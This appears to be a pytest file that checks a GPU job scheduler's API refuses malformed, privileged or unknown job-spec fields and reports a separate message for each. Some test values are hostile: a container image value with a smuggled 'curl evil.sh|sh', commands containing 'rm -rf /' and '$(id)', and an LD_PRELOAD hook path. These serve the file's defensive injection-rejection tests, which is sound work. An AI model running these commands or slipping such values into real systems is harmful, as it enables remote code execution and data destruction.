"""Spec validation through the API (docs/faults.md 22 and 28): each bad field gets its own message.

Every case POSTs a spec to /api/v1/jobs/ as alice (a member of team-alpha) and expects a 400
whose `errors` hold the offending field's path (nested fields as "resources.gpus") with a
message that says what is wrong, and no job in the database.
"""

from __future__ import annotations

from typing import Any

import pytest

from scheduler.models import GpuDevice, Job
from tests import factories as f
from tests.conftest import Org, job_spec

JOBS = "/api/v1/jobs/"


@pytest.fixture(autouse=True)
def fast_passwords(settings: Any) -> None:
    # The org fixture hashes a password per persona; the production hasher dominates runtime.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def flatten(errors: Any, prefix: str = "") -> dict[str, list[str]]:
    """{"resources": {"gpus": ["..."]}} -> {"resources.gpus": ["..."]}."""
    if isinstance(errors, dict):
        out: dict[str, list[str]] = {}
        for key, value in errors.items():
            out.update(flatten(value, f"{prefix}.{key}" if prefix else str(key)))
        return out
    if isinstance(errors, list) and errors and all(isinstance(e, str) for e in errors):
        return {prefix: errors}
    if isinstance(errors, list):  # list fields report errors per index: {"0": [...]} or [[...]]
        out = {}
        for index, value in enumerate(errors):
            out.update(flatten(value, f"{prefix}.{index}"))
        return out
    return {prefix: [str(errors)]}


def resources(**overrides: Any) -> dict[str, Any]:
    return {"cpu_milli": 8000, "memory_mib": 65536, **overrides}


def without(*fields: str) -> dict[str, Any]:
    spec = job_spec()
    for field in fields:
        del spec[field]
    return spec


def inference(**overrides: Any) -> dict[str, Any]:
    return job_spec(type="inference", name="llm-serve", **overrides)


# (spec, field path, substring of that field's message)
BAD_SPECS = [
    # wrong types: JSON has no "almost an integer"
    pytest.param(job_spec(replicas="2"), "replicas", "whole number, got '2'", id="replicas-string"),
    pytest.param(job_spec(replicas=True), "replicas", "whole number, got True", id="replicas-bool"),
    pytest.param(job_spec(replicas=1.5), "replicas", "whole number, got 1.5", id="replicas-float"),
    pytest.param(
        job_spec(replicas=0), "replicas", "greater than or equal to 1", id="replicas-zero"
    ),
    pytest.param(job_spec(replicas=None), "replicas", "may not be null", id="replicas-null"),
    pytest.param(job_spec(name=123), "name", "must be a string, got a number", id="name-number"),
    pytest.param(
        job_spec(command=["python", 3]), "command.1", "must be a string", id="command-arg-number"
    ),
    pytest.param(
        job_spec(env={"EPOCHS": 3}), "env.EPOCHS", "must be a string", id="env-value-number"
    ),
    pytest.param(
        job_spec(checkpointable="yes"),
        "checkpointable",
        "true or false",
        id="checkpointable-string",
    ),
    pytest.param(
        job_spec(resources="4 gpus"),
        "resources",
        "must be an object, got str",
        id="resources-string",
    ),
    pytest.param(job_spec(flavors="H100-80GB"), "flavors", "list", id="flavors-string"),
    pytest.param(job_spec(type="quantum"), "type", "not a valid choice", id="type-unknown"),
    # GPU counts and shares
    pytest.param(
        job_spec(resources=resources(gpus=-1)),
        "resources.gpus",
        "greater than or equal to 0",
        id="gpus-negative",
    ),
    pytest.param(
        job_spec(resources=resources(gpus=1.5)), "resources.gpus", "gpu_milli", id="gpus-fractional"
    ),
    pytest.param(
        job_spec(resources=resources(gpus="4")), "resources.gpus", "whole number", id="gpus-string"
    ),
    pytest.param(
        job_spec(resources=resources(gpus=65)),
        "resources.gpus",
        "less than or equal to 64",
        id="gpus-too-many",
    ),
    pytest.param(
        job_spec(resources=resources(gpu_milli=500)),
        "resources.gpu_memory_mib",
        "needs the GPU memory",
        id="gpu-milli-without-memory",
    ),
    pytest.param(
        job_spec(resources=resources(gpus=1, gpu_milli=500, gpu_memory_mib=8192)),
        "resources.gpu_milli",
        "not both",
        id="gpus-and-gpu-milli",
    ),
    pytest.param(
        job_spec(resources=resources(gpu_milli=1000, gpu_memory_mib=8192)),
        "resources.gpu_milli",
        "less than or equal to 999",
        id="gpu-milli-whole-gpu",
    ),
    pytest.param(
        job_spec(resources=resources(mig_profile="9g.90gb")),
        "resources.mig_profile",
        "unknown MIG profile '9g.90gb'; the allowed flavors offer: 1g.10gb",
        id="mig-profile-unknown",
    ),
    pytest.param(
        job_spec(flavors=["A100-40GB"], resources=resources(mig_profile="1g.10gb")),
        "resources.mig_profile",
        "offer: 1g.5gb, 2g.10gb",
        id="mig-profile-other-flavor",
    ),
    pytest.param(
        job_spec(resources=resources(mig_profile="1g.10gb", gpus=1)),
        "resources.mig_profile",
        "set only mig_profile",
        id="mig-profile-with-gpus",
    ),
    pytest.param(
        job_spec(resources=resources(gpus=1, nvidia_com_gpu=8)),
        "resources.nvidia_com_gpu",
        "unknown field",
        id="resources-unknown-field",
    ),
    # catalogue lookups name what exists
    pytest.param(
        job_spec(flavors=["B200-192GB"]),
        "flavors",
        "unknown flavor 'B200-192GB'; known flavors: A100-40GB, H100-80GB",
        id="flavor-unknown",
    ),
    pytest.param(
        job_spec(priority_class="ultra"),
        "priority_class",
        "unknown priority class 'ultra'; known classes: critical, high, normal",
        id="priority-class-unknown",
    ),
    # names
    pytest.param(job_spec(name="BERT"), "name", "not a valid job name", id="name-uppercase"),
    pytest.param(job_spec(name="b" * 64), "name", "no more than 63 characters", id="name-64-chars"),
    pytest.param(job_spec(name="-bert"), "name", "not a valid job name", id="name-leading-dash"),
    pytest.param(
        job_spec(name="bert\x1b[31m"), "name", "not a valid job name", id="name-control-char"
    ),
    pytest.param(job_spec(name="bert\u202e"), "name", "not a valid job name", id="name-bidi"),
    pytest.param(job_spec(name=""), "name", "may not be blank", id="name-empty"),
    pytest.param(without("name"), "name", "required", id="name-missing"),
    # image
    pytest.param(
        job_spec(image="Not An Image"),
        "image",
        "not a container image reference",
        id="image-spaces",
    ),
    pytest.param(
        job_spec(image="pytorch/pytorch:2.4; curl evil.sh|sh"),
        "image",
        "not a container image reference",
        id="image-shell",
    ),
    pytest.param(without("image"), "image", "required", id="image-missing"),
    # commands are argument lists, never shell strings
    pytest.param(
        job_spec(command="python train.py; rm -rf /"),
        "command",
        "not a shell string",
        id="command-shell-string",
    ),
    pytest.param(job_spec(command=[]), "command", "at least 1 elements", id="command-empty"),
    pytest.param(
        job_spec(command=["", "train.py"]),
        "command",
        "the program) is empty",
        id="command-empty-program",
    ),
    pytest.param(
        job_spec(command=["python", "a\x00b"]), "command.1", "Null characters", id="command-nul"
    ),
    pytest.param(
        job_spec(command=["python", "a\x1bb"]),
        "command",
        "control character U+001B",
        id="command-escape",
    ),
    # environment
    pytest.param(
        job_spec(env={"WORLD_SIZE": "64"}),
        "env",
        "WORLD_SIZE is reserved",
        id="env-reserved-world-size",
    ),
    pytest.param(
        job_spec(env={"CUDA_VISIBLE_DEVICES": "0"}),
        "env",
        "CUDA_VISIBLE_DEVICES is reserved",
        id="env-reserved-cuda",
    ),
    pytest.param(
        job_spec(env={"LD_PRELOAD": "/tmp/hook.so"}),
        "env",
        "LD_PRELOAD is reserved",
        id="env-reserved-ld-preload",
    ),
    pytest.param(
        job_spec(env={"NVIDIA_DRIVER_CAPABILITIES": "all"}),
        "env",
        "NVIDIA_DRIVER_CAPABILITIES is reserved",
        id="env-reserved-nvidia-prefix",
    ),
    pytest.param(
        job_spec(env={"MY-VAR": "1"}),
        "env",
        "'MY-VAR' is not a valid variable name",
        id="env-key-dash",
    ),
    pytest.param(
        job_spec(env={"1ST": "1"}), "env", "'1ST' is not a valid variable name", id="env-key-digit"
    ),
    pytest.param(
        job_spec(env={"TOKEN": "a\x07b"}), "env", "control character U+0007", id="env-value-control"
    ),
    # unknown and privileged fields (docs/faults.md 28) are refused by name
    pytest.param(job_spec(gpus=4), "gpus", "unknown field", id="unknown-top-level"),
    pytest.param(job_spec(Replicas=4), "Replicas", "unknown field", id="unknown-typo-case"),
    *[
        pytest.param(
            job_spec(**{field: value}), field, "is set by Gantry", id=f"privileged-{field}"
        )
        for field, value in [
            ("state", "running"),
            ("approved_by", "dana"),
            ("submitted_by", "tina"),
            ("tenant", 1),
            ("nodeName", "gpu-node-1"),
            ("privileged", True),
            ("hostNetwork", True),
            ("serviceAccountName", "default"),
            ("tolerations", [{"key": "nvidia.com/gpu", "operator": "Exists"}]),
        ]
    ],
    # inference-only fields
    pytest.param(
        job_spec(min_replicas=1),
        "min_replicas",
        "inference jobs only",
        id="min-replicas-on-training",
    ),
    pytest.param(
        job_spec(type="batch", max_replicas=4),
        "min_replicas",
        "inference jobs only",
        id="max-replicas-on-batch",
    ),
    pytest.param(
        inference(replicas=2, min_replicas=3, max_replicas=2),
        "max_replicas",
        "max_replicas (2) is below min_replicas (3)",
        id="inference-min-above-max",
    ),
    pytest.param(
        inference(replicas=5, min_replicas=1, max_replicas=4),
        "replicas",
        "replicas (5) must lie between min_replicas (1) and max_replicas (4)",
        id="inference-replicas-outside-range",
    ),
    # runtime bounds
    pytest.param(
        job_spec(max_runtime_s=59),
        "max_runtime_s",
        "greater than or equal to 60",
        id="max-runtime-too-short",
    ),
    pytest.param(
        job_spec(retry={"limit": 21}),
        "retry.limit",
        "less than or equal to 20",
        id="retry-limit-too-high",
    ),
]


@pytest.mark.parametrize(("spec", "path", "message"), BAD_SPECS)
def test_bad_spec_is_refused_with_its_own_message(
    org: Org, client_for: Any, spec: dict[str, Any], path: str, message: str
) -> None:
    response = client_for("alice").post(
        JOBS, {"project": org.proj_alpha.pk, "spec": spec}, format="json"
    )
    assert response.status_code == 400, response.json()
    errors = flatten(response.json()["errors"]["spec"])
    assert path in errors, errors
    assert any(message in text for text in errors[path]), errors[path]
    assert not Job.objects.exists()


@pytest.fixture
def pools(org: Org) -> None:
    """An 8-GPU H100 node in pool "default", and one of pool "spot" the cluster no longer
    lists (its row is kept, not present)."""
    for name, pool, present in (("h100-1", "default", True), ("spot-1", "spot", False)):
        node = f.NodeFactory(name=name, pool=pool, present=present)
        for index in range(8):
            GpuDevice.objects.create(node=node, index=index, model="H100-80GB", memory_mib=81920)


@pytest.mark.parametrize(
    ("asked", "message"),
    [
        (
            ["nope"],
            "unknown pool 'nope'; known pools (those of the nodes Gantry has seen, present "
            "now or not): default, spot.",
        ),
        (
            ["default", "nope", "gone", "nope"],
            "unknown pools 'nope', 'gone'; known pools (those of the nodes Gantry has seen, "
            "present now or not): default, spot.",
        ),
    ],
    ids=["one", "several"],
)
def test_an_unknown_pool_is_refused_naming_the_known_ones(
    org: Org, client_for: Any, pools: None, asked: list[str], message: str
) -> None:
    # was a 201: the job waited forever "in pools nope", counted ahead of others
    response = client_for("alice").post(
        JOBS, {"project": org.proj_alpha.pk, "spec": job_spec(pools=asked)}, format="json"
    )
    assert response.status_code == 400, response.json()
    assert response.json()["errors"]["spec"]["pools"] == [message]
    assert not Job.objects.exists()


@pytest.mark.parametrize("asked", [["default"], ["spot"]], ids=["present", "not-listed-now"])
def test_a_pool_of_a_node_present_or_gone_is_taken(
    org: Org, client_for: Any, pools: None, asked: list[str]
) -> None:
    response = client_for("alice").post(
        JOBS, {"project": org.proj_alpha.pk, "spec": job_spec(pools=asked)}, format="json"
    )
    assert response.status_code == 201, response.json()
    assert Job.objects.get().spec["pools"] == asked


def test_pools_are_not_judged_before_any_node_nor_where_nodes_may_be_added(
    org: Org, client_for: Any, settings: Any
) -> None:
    client = client_for("alice")
    body = {"project": org.proj_alpha.pk, "spec": job_spec(pools=["nope"])}
    assert client.post(JOBS, body, format="json").status_code == 201  # no node recorded yet
    f.NodeFactory(name="h100-1")
    settings.GANTRY_REFUSE_BEYOND_INVENTORY = False  # an autoscaler may bring new pools
    second = {**body, "spec": job_spec(name="second", pools=["nope"])}
    assert client.post(JOBS, second, format="json").status_code == 201


def test_every_error_is_reported_at_once(org: Org, client_for: Any) -> None:
    # A shell-string command (or a privileged or unknown key) hid every other field's
    # error, and the checks across fields ran only once every field passed.
    spec = job_spec(
        name="Bad_Name",
        command="python train.py",
        env={"1BAD": "x"},
        replicas=10**9,
        resources=resources(gpu_milli=500, gpus=1.5),
        state="running",
        colour="blue",
    )
    response = client_for("alice").post(
        JOBS, {"project": org.proj_alpha.pk, "spec": spec}, format="json"
    )
    assert response.status_code == 400
    errors = flatten(response.json()["errors"]["spec"])
    expected = {
        "name": "is not a valid job name",
        "command": "not a shell string",
        "env": "is not a valid variable name",
        "replicas": "less than or equal to 1024",
        "resources.gpus": "whole number of GPUs",
        "resources.gpu_memory_mib": "needs the GPU memory",
        "state": "is set by Gantry",
        "colour": "unknown field",
    }
    for path, message in expected.items():
        assert path in errors, (path, errors)
        assert any(message in text for text in errors[path]), errors[path]
    assert not Job.objects.exists()


def test_checks_across_fields_run_beside_field_errors(org: Org, client_for: Any) -> None:
    # an inference range error and a MIG profile error with a bad image beside them
    spec = inference(
        image="not an image!",
        replicas=5,
        min_replicas=1,
        max_replicas=4,
        resources=resources(mig_profile="9g.99gb"),
    )
    response = client_for("alice").post(
        JOBS, {"project": org.proj_alpha.pk, "spec": spec}, format="json"
    )
    errors = flatten(response.json()["errors"]["spec"])
    assert {"image", "replicas", "resources.mig_profile"} <= set(errors), errors


def test_privileged_fields_are_each_named(org: Org, client_for: Any) -> None:
    spec = job_spec(state="running", approved_by="dana", tenant=org.bravo.pk)
    response = client_for("alice").post(
        JOBS, {"project": org.proj_alpha.pk, "spec": spec}, format="json"
    )
    assert response.status_code == 400
    assert set(response.json()["errors"]["spec"]) == {"state", "approved_by", "tenant"}
    assert not Job.objects.exists()


def test_command_with_shell_metacharacters_is_stored_verbatim_as_a_list(
    org: Org, client_for: Any
) -> None:
    command = ["python", "train.py", "--note", "a; rm -rf / && echo $(id) `whoami` | tee >x"]
    response = client_for("alice").post(
        JOBS, {"project": org.proj_alpha.pk, "spec": job_spec(command=command)}, format="json"
    )
    assert response.status_code == 201, response.json()
    assert response.json()["spec"]["command"] == command
    assert Job.objects.get().spec["command"] == command  # one argument, unsplit, unquoted


@pytest.mark.parametrize(
    ("spec", "expected"),
    [
        # 2 replicas x 4 GPUs = 8 GPUs = 8000 milli per job, 4000 per replica
        pytest.param(
            job_spec(), {"gpus_per_replica": 4, "gpu_milli_per_replica": 4000}, id="whole-gpus"
        ),
        pytest.param(
            job_spec(resources=resources(gpu_milli=250, gpu_memory_mib=10240)),
            {"gpus_per_replica": 0, "gpu_milli_per_replica": 250, "gpu_memory_mib": 10240},
            id="gpu-share",
        ),
        # a MIG slice occupies its device: accounted as one whole GPU
        pytest.param(
            job_spec(resources=resources(mig_profile="3g.40gb")),
            {"gpus_per_replica": 0, "gpu_milli_per_replica": 1000},
            id="mig-slice",
        ),
        pytest.param(
            job_spec(resources=resources(gpus=2.0)),
            {"gpus_per_replica": 2, "gpu_milli_per_replica": 2000},
            id="gpus-integral-float",
        ),
        pytest.param(
            inference(replicas=2),
            {"replicas": 2, "spec.min_replicas": 2, "spec.max_replicas": 2},
            id="inference-range-defaults-to-replicas",
        ),
        pytest.param(
            job_spec(type="batch"), {"max_runtime_s": 24 * 3600}, id="batch-default-runtime"
        ),
    ],
)
def test_good_specs_are_accepted_and_normalised(
    org: Org, client_for: Any, spec: dict[str, Any], expected: dict[str, Any]
) -> None:
    response = client_for("alice").post(
        JOBS, {"project": org.proj_alpha.pk, "spec": spec}, format="json"
    )
    assert response.status_code == 201, response.json()
    job = Job.objects.get()
    actual = {
        key: job.spec[key.removeprefix("spec.")] if key.startswith("spec.") else getattr(job, key)
        for key in expected
    }
    assert actual == expected


@pytest.mark.parametrize(
    ("envelope", "path", "message"),
    [
        pytest.param({"spec": job_spec()}, "project", "required", id="no-project"),
        pytest.param({"spec": ["python"]}, "spec", "dictionary", id="spec-not-object"),
        pytest.param(
            {"spec": job_spec(), "state": "running"},
            "state",
            "unknown or read-only field",
            id="envelope-unknown-field",
        ),
    ],
)
def test_bad_envelope(
    org: Org, client_for: Any, envelope: dict[str, Any], path: str, message: str
) -> None:
    body = {"project": org.proj_alpha.pk, **envelope}
    if path == "project":
        del body["project"]
    response = client_for("alice").post(JOBS, body, format="json")
    assert response.status_code == 400, response.json()
    errors = flatten(response.json()["errors"])
    assert any(message in text for text in errors[path]), errors
    assert not Job.objects.exists()
